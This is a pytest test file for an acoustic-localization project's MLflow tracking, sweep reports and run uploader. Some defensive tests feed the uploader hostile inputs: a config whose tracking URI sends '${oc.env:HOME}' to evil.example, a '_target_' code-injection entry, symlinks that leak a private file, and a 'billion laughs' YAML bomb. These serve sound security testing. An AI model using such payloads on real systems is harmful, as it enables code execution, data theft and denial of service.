"""MLflow parent/child runs for sweeps, a real mlflow server, the unreachable-server path, uploads,
reports and the launchers (joblib processes, submitit's local executor)."""

from __future__ import annotations

import json
import logging
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from pathlib import Path

import mlflow
import pytest

from acoustlab.reporting import report
from acoustlab.reporting.experiment_log import PENDING_FILE
from acoustlab.run import upload
from acoustlab.run.app import run_experiment

SMALL = ["+site=frozen_lake", "+experiment=smoke", "model.n_estimators=20"]


def runs_in(store: Path) -> list:
    client = mlflow.MlflowClient(f"sqlite:///{store}")
    experiment = client.get_experiment_by_name("acoustlab")
    return [] if experiment is None else client.search_runs([experiment.experiment_id])


@pytest.mark.slow
def test_parallel_sweep_on_a_cold_cache_has_a_parent_run_children_and_a_report(run_cli, tmp_path):
    out = tmp_path / "outputs"
    proc = run_cli("-m", "hydra/launcher=local_parallel", *SMALL, "model=xgboost,random_forest", outputs=out)
    assert proc.returncode == 0, proc.stderr[-3000:]
    job_dirs = sorted(p.parent for p in out.glob("multirun/*/*/*/metrics.json"))
    assert len(job_dirs) == 2
    # two processes needed the same missing data at once: it was simulated once and shared
    assert len(list((out / "cache" / "simulation").iterdir())) == 2  # the entry and its lock file
    hashes = {json.loads((d / "metrics.json").read_text())["dataset_hash"] for d in job_dirs}
    assert len(hashes) == 1

    runs = runs_in(out / "mlflow.db")
    parents = [r for r in runs if r.data.tags.get("acoustlab.sweep") == "parent"]
    assert len(parents) == 1
    parent = parents[0]
    assert parent.info.status == "FINISHED"
    children = [r for r in runs if r.data.tags.get("mlflow.parentRunId") == parent.info.run_id]
    assert sorted(r.data.params["choice.model"] for r in children) == ["random_forest", "xgboost"]
    for child in children:
        assert child.data.tags["dataset_hash"] in hashes and child.data.tags["code_version"]
        assert "error.gate.p50" in child.data.metrics and "coverage.fixed.0.8" in child.data.metrics
    client = mlflow.MlflowClient(f"sqlite:///{out / 'mlflow.db'}")
    assert {a.path for a in client.list_artifacts(parent.info.run_id)} >= {"report", "tables"}

    sweep_dir = job_dirs[0].parent
    md = (sweep_dir / "report" / "report.md").read_text()
    assert "model=xgboost" in md and "model=random_forest" in md
    assert (sweep_dir / "report" / "report.html").read_text().count("data:image/png;base64,") >= 2 + 2 * 4


@pytest.mark.slow
def test_a_failed_job_keeps_the_others_and_marks_the_parent_failed(run_cli, tmp_path):
    out = tmp_path / "outputs"
    proc = run_cli("-m", *SMALL, "conformal.levels=[1.5],[0.8]", "hydra.callbacks.sweep_tracking.preflight=false", outputs=out)
    assert proc.returncode != 0
    assert "conformal.levels must lie in (0, 1); got 1.5" in proc.stderr
    finished = list(out.glob("multirun/*/*/*/metrics.json"))
    assert [p.parent.name for p in finished] == ["1"]  # the valid job after the failed one ran and kept its results
    parent = next(r for r in runs_in(out / "mlflow.db") if r.data.tags.get("acoustlab.sweep") == "parent")
    assert parent.info.status == "FAILED"
    report = (finished[0].parent.parent / "report" / "report.md").read_text()
    assert "(1 of 2 jobs failed)" in report and "1 run(s), 1 failed" in report  # every requested job is accounted for
    assert "## Failed jobs" in report and "conformal.levels=[1.5]" in report and "must lie in (0, 1); got 1.5" in report


@pytest.mark.slow
def test_sweep_preflight_stops_before_any_job_and_names_the_failing_ones(run_cli, tmp_path):
    out = tmp_path / "outputs"
    proc = run_cli("-m", *SMALL, "pipeline.model_target=absolute,sideways", "conformal.levels=[0.8],[0.8,1.5]", outputs=out)
    assert proc.returncode == 2
    errors = [line for line in proc.stderr.splitlines() if line.startswith("acoustlab: error: job #")]
    # Hydra's order: the product of the overrides, the last one varying fastest
    assert [e.split(" ")[3] for e in errors] == ["#1", "#2", "#3"]
    assert (
        "pipeline.model_target=absolute conformal.levels=[0.8,1.5]" in errors[0]
        and "conformal.levels must lie in (0, 1); got 1.5" in errors[0]
    )
    assert "Invalid value 'sideways', expected one of [absolute, correction]" in errors[1]  # the typed schema
    assert "3 of 4 sweep jobs would fail; nothing was run" in proc.stderr
    assert not list(out.glob("multirun/*/*/*/metrics.json")) and not (out / "mlflow.db").exists()


@pytest.mark.slow
def test_a_shard_sweep_fills_the_cache_for_one_final_run(run_cli, tmp_path):
    out = tmp_path / "outputs"
    proc = run_cli("-m", *SMALL, "tracking=none", "data.shard_count=2", "data.shard_index=range(0,2)", outputs=out)
    assert proc.returncode == 0, proc.stderr[-3000:]
    (partial,) = (out / "cache" / "simulation").glob("*.partial")
    assert len(list(partial.glob("*.npy"))) == 4  # 120 events in chunks of 32, both shards rendered
    assert not list(out.glob("multirun/*/*/*/metrics.json"))  # shard jobs only render
    final = run_cli(*SMALL, "tracking=none", outputs=out)
    assert final.returncode == 0, final.stderr[-3000:]
    assert "resuming simulation: 4 of 4 chunks already rendered" in final.stdout + final.stderr


@pytest.mark.slow
def test_unreachable_server_loses_nothing_and_the_run_uploads_later(compose_cfg, tmp_path, caplog):
    cfg = compose_cfg([*SMALL, f"paths.outputs_dir={tmp_path / 'outputs'}", "tracking.tracking_uri=http://127.0.0.1:9"])
    caplog.set_level(logging.WARNING)
    started = time.perf_counter()
    metrics = run_experiment(cfg, tmp_path / "run")
    assert time.perf_counter() - started < 120  # the reachability probe fails fast, no long retry loop
    run_dir = tmp_path / "run"
    for name in ("metrics.json", "predictions.parquet", "config_resolved.yaml", "plots/error_cdf.png", "plots/site_map.png"):
        assert (run_dir / name).exists(), name
    warning = next(r.message for r in caplog.records if "tracking failed" in r.message)
    assert f"python -m acoustlab.upload {run_dir}" in warning and "http://127.0.0.1:9" in warning
    assert json.loads((run_dir / PENDING_FILE).read_text())["destination"] == "http://127.0.0.1:9"

    store = tmp_path / "later.db"
    assert upload.main([str(tmp_path), "--only-pending", "--tracking-uri", f"sqlite:///{store}"]) == 0
    assert not (run_dir / PENDING_FILE).exists()
    (uploaded,) = runs_in(store)
    assert uploaded.data.metrics["error.gate.p50"] == pytest.approx(metrics["errors"]["gate"]["p50"])
    assert uploaded.data.params["data.n_events"] == "120" and uploaded.data.tags["dataset_hash"] == metrics["dataset_hash"]


def test_upload_of_a_folder_without_runs_is_a_clear_error(tmp_path, capsys):
    assert upload.main([str(tmp_path)]) == 2
    assert "no run directories" in capsys.readouterr().err


@pytest.mark.slow
def test_report_tables_match_the_runs(compose_cfg, tmp_path):
    base = [*SMALL, f"paths.outputs_dir={tmp_path / 'outputs'}", "tracking=none"]
    m1 = run_experiment(compose_cfg(base), tmp_path / "runs" / "a")
    m2 = run_experiment(compose_cfg([*base, "conformal=all", "error_model=gdop_only"]), tmp_path / "runs" / "b")
    assert report.main([str(tmp_path / "runs"), "--out", str(tmp_path / "rep")]) == 0
    runs = report.collect_runs([tmp_path / "runs"])
    errors = report.error_rows(runs)
    assert len(errors) == 10 and set(errors["method"]) == {"solver", "model", "gate", "oracle", "gate_without_trust"}
    gate = errors[errors["method"] == "gate"]["p95 (m)"].tolist()
    assert gate == pytest.approx([m1["errors"]["gate"]["p95"], m2["errors"]["gate"]["p95"]])
    coverage = report.coverage_rows(runs)
    assert set(coverage["scorer"]) == {"fixed", "gdop_scaled", "gdop_only", "error_ratio", "mondrian_gdop", "gdop_by_region", "cqr"}
    assert m2["coverage"]["gdop_by_region"]["0.95"] > 0.5  # binned by region inside the pipeline, end to end
    row = coverage[coverage["scorer"] == "gdop_scaled"].iloc[-1]  # run b (runs in directory order: a, then b)
    assert row["coverage@0.8 (share)"] == pytest.approx(m2["coverage"]["gdop_scaled"]["0.8"])
    md = (tmp_path / "rep" / "report.md").read_text()
    assert "Localization error per detection" in md and "Coverage and interval width" in md and "ρ GDOP" in md
    assert md.startswith("# acoustlab: frozen_lake — 2 run(s)")  # run outside Hydra: no overrides to name them by
    runs[0].overrides, runs[1].overrides = {"site": "frozen_lake", "model": "xgboost"}, {"site": "frozen_lake", "model": "knn"}
    assert report.default_title(runs) == "acoustlab: frozen_lake — model = xgboost, knn"
    same = f"{m1['errors']['gate']['p95']:.3g}" == f"{m2['errors']['gate']['p95']:.3g}"  # the gate does not depend on the error model
    assert ("tie on the gated p95 error" if same else "Smallest gated p95 error: ") in md
    assert not re.search(r"\bnan\b", md.split("## Plots")[0])  # a conclusion, no bare nan
    assert "> 5 m (%)" in md and "p95 (m)" in md
    assert "> Too few to compare: " in md and "detections at" in md  # a smoke run's p99 and coverage rank nothing
    for png in (
        "sweep_error_cdf.png",
        "sweep_coverage_calibration.png",
        "sweep_coverage_by_condition.png",
        "runs/0/site_map.png",
        "runs/1/error_cdf.png",
    ):
        assert (tmp_path / "rep" / png).stat().st_size > 1000, png
    # the same through the console entry point: acoustlab report ...
    proc = subprocess.run(
        [sys.executable, "-m", "acoustlab", "report", str(tmp_path / "runs"), "--out", str(tmp_path / "cli")],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert (tmp_path / "cli" / "report.html").exists() and str(tmp_path / "cli" / "report.md") in proc.stdout


def test_report_of_a_missing_path_is_a_clear_error(tmp_path, capsys):
    assert report.main([str(tmp_path / "nope")]) == 2
    assert "does not exist" in capsys.readouterr().err


@pytest.mark.slow
def test_submitit_local_launcher_runs_the_sweep(run_cli, tmp_path):
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher")
    out = tmp_path / "outputs"
    proc = run_cli(
        "-m",
        "hydra/launcher=submitit_local",
        "hydra.launcher.timeout_min=120",
        *SMALL,
        "model=xgboost,random_forest",
        "data.n_jobs=1",
        outputs=out,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert len(list(out.glob("multirun/*/*/*/metrics.json"))) == 2
    runs = runs_in(out / "mlflow.db")
    parent = next(r for r in runs if r.data.tags.get("acoustlab.sweep") == "parent")
    assert sum(r.data.tags.get("mlflow.parentRunId") == parent.info.run_id for r in runs) == 2


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _rest(base: str, endpoint: str, body: dict | None = None, **query: str) -> dict:
    url = f"{base}/api/2.0/mlflow/{endpoint}" + (f"?{urllib.parse.urlencode(query)}" if query else "")
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data=data, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.loads(response.read())


@pytest.mark.slow
@pytest.mark.mlflow_server
def test_real_mlflow_server_receives_params_metrics_tables_and_artifacts(run_cli, tmp_path):
    if shutil.which("mlflow") is None and not Path(sys.executable).with_name("mlflow").exists():
        pytest.skip("the mlflow command is not installed")
    port = _free_port()
    base = f"http://127.0.0.1:{port}"
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "mlflow",
            "server",
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--workers",
            "1",
            "--backend-store-uri",
            f"sqlite:///{tmp_path / 'server.db'}",
            "--artifacts-destination",
            str(tmp_path / "artifacts"),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "PYTHONWARNINGS": "ignore"},
    )
    try:
        deadline = time.time() + 120
        while True:
            try:
                urllib.request.urlopen(f"{base}/health", timeout=2)
                break
            except OSError:
                if time.time() > deadline or server.poll() is not None:
                    pytest.fail("mlflow server did not start within 120 s")
                time.sleep(1)
        out = tmp_path / "outputs"
        proc = run_cli(*SMALL, f"tracking.tracking_uri={base}", outputs=out)
        assert proc.returncode == 0, proc.stderr[-3000:]
        assert not (out / "mlflow.db").exists()  # nothing went to the local store
        metrics = json.loads(next(out.glob("runs/*/*/metrics.json")).read_text())

        experiment = _rest(base, "experiments/get-by-name", experiment_name="acoustlab")["experiment"]
        (run,) = _rest(base, "runs/search", {"experiment_ids": [experiment["experiment_id"]]})["runs"]
        params = {p["key"]: p["value"] for p in run["data"]["params"]}
        assert params["choice.model"] == "xgboost" and params["choice.site"] == "frozen_lake" and params["data.n_events"] == "120"
        logged = {m["key"]: m["value"] for m in run["data"]["metrics"]}
        assert logged["error.gate.p95"] == pytest.approx(metrics["errors"]["gate"]["p95"])
        assert logged["coverage.fixed.0.95"] == pytest.approx(metrics["coverage"]["fixed"]["0.95"])
        tags = {t["key"]: t["value"] for t in run["data"]["tags"]}
        assert tags["dataset_hash"] == metrics["dataset_hash"]

        run_id = run["info"]["run_id"]
        top = {f["path"] for f in _rest(base, "artifacts/list", run_id=run_id).get("files", [])}
        assert {"metrics.json", "predictions.parquet", "config_resolved.yaml", "plots", "tables"} <= top
        tables = {f["path"] for f in _rest(base, "artifacts/list", run_id=run_id, path="tables")["files"]}
        assert {"tables/errors.json", "tables/coverage.json"} <= tables
        plots = {f["path"] for f in _rest(base, "artifacts/list", run_id=run_id, path="plots")["files"]}
        assert {
            "plots/error_cdf.png",
            "plots/site_map.png",
            "plots/coverage_calibration.png",
            "plots/predicted_vs_actual_error.png",
        } <= plots
    finally:
        server.terminate()
        server.wait(timeout=30)


def test_paired_bootstrap_ratio_interval_over_positions():
    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(0)
    first = pd.DataFrame({"event_id": np.arange(60), "position_id": np.repeat(np.arange(12), 5), "error_gate_m": rng.lognormal(size=60)})
    assert report.paired_ratio_ci(first, first, 95) == pytest.approx((1.0, 1.0))
    doubled = first.assign(error_gate_m=2 * first["error_gate_m"]).sample(frac=1, random_state=1)  # order does not matter
    assert report.paired_ratio_ci(first, doubled, 50) == pytest.approx((2.0, 2.0))
    noisy = first.assign(error_gate_m=first["error_gate_m"] * rng.lognormal(sigma=0.5, size=60))
    low, high = report.paired_ratio_ci(first, noisy, 95)
    assert low < high
    assert report.paired_ratio_ci(first, first.iloc[:50], 95) is None  # not the same test events
    # another method's column, and failures (NaN) as infinite errors: 10 % failures put every bootstrap p95 at infinity
    model = first.assign(error_model_m=3 * first["error_gate_m"])
    assert report.paired_ratio_ci(first.assign(error_model_m=first["error_gate_m"]), model, 50, method="model") == pytest.approx((3.0, 3.0))
    failing = first.assign(error_gate_m=np.where(np.arange(60) % 10 == 0, np.nan, first["error_gate_m"]))
    low, high = report.paired_ratio_ci(first, failing, 50)
    assert 1.0 <= low <= high  # the median moves up when failures count
    assert report.paired_ratio_ci(first, failing, 99)[0] == np.inf


def test_upload_never_runs_code_named_in_a_received_folder(tmp_path, monkeypatch):
    """A hostile config_resolved.yaml naming a callable as the tracker, and an env interpolation, is only data:
    nothing it names is instantiated, nothing is resolved from the uploader's environment, and a second upload is skipped."""
    import yaml

    run_dir = tmp_path / "received"
    run_dir.mkdir()
    called = tmp_path / "called"
    (run_dir / "config_resolved.yaml").write_text(
        yaml.safe_dump(
            {
                "tracking": {
                    "_target_": "pathlib.Path.touch",
                    "self": str(called),
                    "tracking_uri": "http://evil.example:5000/${oc.env:HOME}",
                    "experiment_name": "${oc.env:PATH}",
                },
                "paths": {"outputs_dir": str(tmp_path / "outputs")},
            }
        )
    )
    tracker = upload.tracker_for(run_dir, None, None)
    assert not called.exists()
    assert type(tracker).__name__ == "MlflowTracker" and "evil" not in str(tracker.tracking_uri)
    assert tracker.experiment_name == "acoustlab"  # the interpolated name was not resolved


@pytest.mark.slow
def test_mlflow_artifacts_live_beside_the_store_not_in_the_working_directory(compose_cfg, tmp_path, monkeypatch):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    out = tmp_path / "outputs"
    run_experiment(compose_cfg([*SMALL, f"paths.outputs_dir={out}", "plots=false"]), tmp_path / "run")
    assert not (elsewhere / "mlruns").exists()
    assert any((out / "mlartifacts").rglob("metrics.json"))
    (run,) = runs_in(out / "mlflow.db")
    assert run.info.artifact_uri.startswith((out / "mlartifacts").resolve().as_uri())


def test_gross_error_auc_ranks_failures_as_gross():
    import numpy as np
    import pandas as pd

    from acoustlab.reporting.metrics import gross_error_auc

    error = np.array([0.1, 0.2, 0.3, 6.0, 9.0, np.nan])  # the NaN is a failure: gross
    p = pd.DataFrame({"error_gate_m": error, "predicted_error_m": [0.1, 0.2, 0.3, 4.0, 5.0, 7.0], "gdop": [1.0] * 6})
    auc = gross_error_auc(p)
    assert auc["error_model"] == 1.0 and auc["gdop"] is None  # constant GDOP ranks nothing
    p["predicted_error_m"] = [7.0, 5.0, 4.0, 0.3, 0.2, 0.1]
    assert gross_error_auc(p)["error_model"] == 0.0
    assert gross_error_auc(p.iloc[:3])["error_model"] is None  # no gross event


def _received_run(tmp_path: Path) -> Path:
    """A run folder as someone else could send it: its own outputs_dir, a symlink to a file of ours in plots/ and as positions.csv."""
    import yaml

    run_dir = tmp_path / "received"
    (run_dir / "plots").mkdir(parents=True)
    secret = tmp_path / "secret.txt"
    secret.write_text("the uploader's private file")
    (run_dir / "config_resolved.yaml").write_text(yaml.safe_dump({"paths": {"outputs_dir": str(tmp_path / "their_outputs")}}))
    (run_dir / "metrics.json").write_text(
        json.dumps({"site": "forest", "dataset_hash": "abc", "code_version": "x", "localization": {"n_detections": 3}})
    )
    (run_dir / "plots" / "site_map.png").write_bytes(b"png")
    (run_dir / "plots" / "leak.png").symlink_to(secret)
    (run_dir / "positions.csv").symlink_to(secret)
    return run_dir


@pytest.mark.slow
def test_upload_sends_only_regular_files_inside_the_folder_to_the_uploaders_store(tmp_path, caplog):
    run_dir = _received_run(tmp_path)
    caplog.set_level(logging.WARNING)
    assert upload.main([str(run_dir), "--store-dir", str(tmp_path / "mine")]) == 0
    assert not (tmp_path / "their_outputs").exists()  # the folder does not choose where the store goes
    (run,) = runs_in(tmp_path / "mine" / "mlflow.db")
    stored = {
        p.relative_to(tmp_path / "mine" / "mlartifacts").as_posix().split("/artifacts/", 1)[-1]
        for p in (tmp_path / "mine" / "mlartifacts").rglob("*")
        if p.is_file()
    }
    assert {"metrics.json", "config_resolved.yaml", "plots/site_map.png"} <= stored
    assert "positions.csv" not in stored and "plots/leak.png" not in stored
    assert not any("private" in p.read_text(errors="ignore") for p in (tmp_path / "mine" / "mlartifacts").rglob("*") if p.is_file())
    assert sum("not a regular file inside" in r.message for r in caplog.records) == 2


@pytest.mark.parametrize("content", ["{not json", "[1, 2]", '{"site": "forest"}'])
def test_a_malformed_received_metrics_json_is_refused_in_one_line(tmp_path, capsys, caplog, content):
    run_dir = _received_run(tmp_path)
    (run_dir / "metrics.json").write_text(content)
    assert upload.main([str(run_dir), "--store-dir", str(tmp_path / "mine")]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and str(run_dir / "metrics.json") in err
    from acoustlab.reporting.report import main as report_main

    caplog.set_level(logging.WARNING)
    assert report_main([str(run_dir)]) == 2  # nothing left to report, and no traceback
    unreadable = content != '{"site": "forest"}'  # the last is readable, only not a finished evaluation
    assert unreadable == any("left out of the report" in r.message and "metrics.json" in r.message for r in caplog.records)


def test_result_files_are_readable_by_the_group_as_a_plain_open_would_make_them(tmp_path):
    import os

    from acoustlab.core.files import atomic_write_bytes

    atomic_write_bytes(tmp_path / "metrics.json", b"{}")
    umask = os.umask(0)
    os.umask(umask)
    assert (tmp_path / "metrics.json").stat().st_mode & 0o777 == 0o666 & ~umask


def _fake_run(tmp_path: Path, name: str, model: str, p95: float, drop: list[str]) -> Path:
    import yaml

    run_dir = tmp_path / name
    (run_dir / ".hydra").mkdir(parents=True)
    (run_dir / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(["+site=forest", f"model={model}"]))
    (run_dir / "config_resolved.yaml").write_text(yaml.safe_dump({"features": {"drop": drop}, "pipeline": {}}))
    errors = {
        m: {"n": 10, "mean": 1.0, "p50": 0.2985871639346396, "p90": 1.0, "p95": p95, "p99": float("inf"), "share_gt_5m": 0.1}
        for m in ("solver", "gate")
    }
    (run_dir / "metrics.json").write_text(
        json.dumps(
            {
                "site": "forest",
                "dataset_hash": "h",
                "code_version": "c",
                "errors": errors,
                "coverage": {"fixed": {"0.95": 0.9}},
                "interval_width": {"fixed": {"0.95": {"median_m": 1.0}}},
                "gate": {"name": "hybrid", "diagnostics": {"tau_star_db": 3.14159}},
            }
        )
    )
    return run_dir


def test_sweep_tables_show_the_varied_settings_rounded_and_ties_as_ties(tmp_path):
    from acoustlab.reporting.report import collect_runs, conclusion, error_rows, format_cell, uncertainty_rows

    _fake_run(tmp_path, "0", "xgboost", 2.0, [])
    _fake_run(tmp_path, "1", "knn", 2.0001, ["ir", "spectral"])
    runs = collect_runs([tmp_path])
    errors = error_rows(runs)
    assert list(errors.columns[:2]) == ["model", "method"] and set(errors["model"]) == {"xgboost", "knn"}  # a column, not a label
    ranking = uncertainty_rows(runs)
    assert (
        list(ranking["feature groups withheld"]) == ["none", "ir, spectral"] and list(ranking["gate"]) == ["hybrid: tau_star_db 3.14"] * 2
    )
    assert "tie" in conclusion(runs) and "smallest" not in conclusion(runs).lower()
    assert [format_cell(v) for v in (0.2985871639346396, float("inf"), float("nan"), 92, None, 1234.5)] == [
        "0.299",
        "∞",
        "—",
        "92",
        "—",
        "1.23e+03",
    ]


def test_the_true_scale_inset_never_hides_a_microphone():
    import matplotlib
    import numpy as np

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from acoustlab.reporting.plots import INSET_CORNERS, inset_corner

    fig, ax = plt.subplots()
    ax.set_xlim(0, 100)
    ax.set_ylim(0, 100)
    mics = np.array([[5.0, 5.0], [95.0, 5.0], [50.0, 90.0]])  # lower left and lower right taken: the upper left is free
    assert inset_corner(ax, mics, np.zeros((0, 2))) == INSET_CORNERS[2]
    plt.close(fig)


def test_a_stopped_sweep_closes_its_parent_run_killed(tmp_path, monkeypatch):
    """scancel / kill (SIGTERM) or Ctrl-C during a sweep: the parent run is closed KILLED at exit, never left RUNNING."""
    import signal

    from acoustlab.run.sweep import SweepTrackingCallback

    callback = SweepTrackingCallback(report=False, preflight=False)
    closed = []
    monkeypatch.setattr(callback, "_finish", lambda config, status: closed.append(status))
    callback._open = ("config", tmp_path)
    with pytest.raises(SystemExit) as stop:
        callback._on_stop_signal(signal.SIGTERM, None)
    assert stop.value.code == 128 + signal.SIGTERM
    callback._close_after_failure()  # what atexit runs
    assert closed == ["KILLED"]
    failed = SweepTrackingCallback(report=False, preflight=False)
    monkeypatch.setattr(failed, "_finish", lambda config, status: closed.append(status))
    failed._open = ("config", tmp_path)
    failed._close_after_failure()
    assert closed == ["KILLED", "FAILED"]  # a failed job without a stop request stays FAILED
    signal.signal(signal.SIGTERM, signal.SIG_DFL)


@pytest.mark.slow
def test_a_run_logged_after_it_ended_keeps_its_own_start_and_duration(compose_cfg, tmp_path):
    cfg = compose_cfg([*SMALL, f"paths.outputs_dir={tmp_path / 'outputs'}", "tracking=none", "plots=false"])
    metrics = run_experiment(cfg, tmp_path / "run")
    clock = metrics["run_time"]
    assert clock["finished_epoch_ms"] - clock["started_epoch_ms"] == pytest.approx(
        1000 * metrics["timings_s"]["total_before_tracking_s"], abs=50
    )
    time.sleep(1.5)
    assert upload.main([str(tmp_path / "run"), "--store-dir", str(tmp_path / "store")]) == 0
    (run,) = runs_in(tmp_path / "store" / "mlflow.db")
    assert run.info.start_time == clock["started_epoch_ms"] and run.info.end_time == clock["finished_epoch_ms"]


BILLION_LAUGHS = (
    "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
)


@pytest.mark.parametrize(
    "config,expected",
    [(BILLION_LAUGHS, "anchors or aliases"), ("- just\n- a list\n", "holds a YAML list"), ("[" * 200 + "]" * 200, "nested deeper")],
)
def test_a_hostile_received_config_is_refused_in_one_line_and_quickly(tmp_path, capsys, config, expected):
    run_dir = _received_run(tmp_path)
    (run_dir / "config_resolved.yaml").write_text(config)
    assert upload.main([str(run_dir), "--store-dir", str(tmp_path / "mine")]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and expected in err and "config_resolved.yaml" in err


def test_oversized_or_fake_parquet_artifacts_are_not_uploaded(tmp_path, caplog, monkeypatch):
    from acoustlab.reporting import experiment_log

    run_dir = _received_run(tmp_path)
    (run_dir / "predictions.parquet").write_bytes(b"not parquet at all")
    caplog.set_level(logging.WARNING)
    names = [p.name for p in experiment_log.artifact_paths(run_dir)]
    assert "predictions.parquet" not in names and any("not a readable Parquet file" in r.message for r in caplog.records)
    monkeypatch.setattr(experiment_log, "MAX_ARTIFACT_BYTES", 10)
    (run_dir / "metrics.json").write_text(json.dumps({"site": "forest", "dataset_hash": "abc", "code_version": "x"}))
    assert "metrics.json" not in [p.name for p in experiment_log.artifact_paths(run_dir)]
    assert any("over the 10-byte artifact limit" in r.message for r in caplog.records)


def test_the_console_summary_keeps_its_columns_and_says_what_each_method_is():
    from acoustlab.reporting.metrics import summary_text

    row = {"p50": 0.2, "p95": 3.1, "p99": float("inf"), "share_gt_5m": 0.012, "n_failed": 2}
    methods = ("solver", "model", "gate", "oracle", "gate_without_trust")
    metrics = {
        "errors": dict.fromkeys(methods, row),
        "coverage": {"gdop_scaled": {"0.5": 0.51, "0.8": 0.79}},
        "interval_width": {"gdop_scaled": {"0.8": {"median_m": 2.5}}},
    }
    lines = summary_text(metrics).splitlines()
    table = lines[: 1 + len(methods)]
    assert len({len(line) for line in table}) == 1, table  # every row as wide as the header: the columns line up
    assert table[-1].startswith("gate_without_trust ") and table[-1].endswith("2")
    legend = [line for line in lines if line.startswith("  ")]
    assert [line.split(":")[0].strip() for line in legend[: len(methods)]] == list(methods)
    assert any("threshold inf" in line for line in legend)
    metrics["coverage_by_position"] = {"gdop_scaled": {"0.5": {"mean": 0.44}, "0.8": {"mean": 0.71}}}
    text = summary_text(metrics)
    per_position = next(line for line in text.splitlines() if line.strip().startswith("per position"))
    assert per_position.split()[-2:] == ["0.440", "0.710"] and "mean over source positions" in text


def test_the_error_models_rank_correlation_is_split_between_and_within_positions():
    """An error model that knows only which positions are hard: pooled ρ high, between positions high, within them ~0."""
    import numpy as np
    import pandas as pd

    from acoustlab.core import columns as col
    from acoustlab.reporting.metrics import spearman_rho

    rng = np.random.default_rng(0)
    hardness = np.repeat(rng.uniform(0.1, 10, 40), 10)  # 40 positions × 10 detections
    error = hardness * rng.exponential(size=hardness.size)
    predictions = pd.DataFrame(
        {
            col.error_m("gate"): error,
            col.PREDICTED_ERROR: hardness,
            "gdop": np.ones_like(error),
            col.POSITION_ID: np.repeat(np.arange(40), 10),
        }
    )
    rho = spearman_rho(predictions)
    assert rho["error_model"] > 0.5 and rho["error_model_between_positions"] > 0.7
    assert rho["error_model_within_positions"] is None  # constant within each position: no ranking there at all
    predictions[col.PREDICTED_ERROR] = hardness + rng.normal(0, 1e-3, hardness.size)  # noise within: ρ about 0
    assert abs(spearman_rho(predictions)["error_model_within_positions"]) < 0.1
